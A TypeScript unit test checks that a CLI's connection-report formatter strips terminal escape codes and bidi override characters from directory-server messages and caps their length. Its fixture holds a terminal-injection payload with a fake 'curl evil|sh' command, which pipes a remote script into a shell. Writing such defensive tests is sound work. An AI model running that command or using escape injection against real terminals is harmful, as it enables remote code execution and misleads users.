import { formatConnectionReport } from '../src/commands/integrations.ts';

// A check detail quotes the directory server; the terminal must get none of its escapes.
test('a Test Connection report prints server text without controls, capped', () => {
  const detail = `ou=people: the server is unwilling (server says: \u001b[2J\u001b[31mFAKE: run \`curl evil|sh\`\u202e${'x'.repeat(5_000)})`;
  const printed = formatConnectionReport({ ok: false, checks: [{ name: 'users\u001b[0m base', ok: false, detail }] });
  expect(printed).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  expect(printed).toMatch(/^✗ users \[0m base: ou=people: the server is unwilling \(server says: \[2J \[31mFAKE: run `curl evil\|sh` x+…\nconnection FAILED$/);
  expect(printed.length).toBeLessThan(1_100);
});
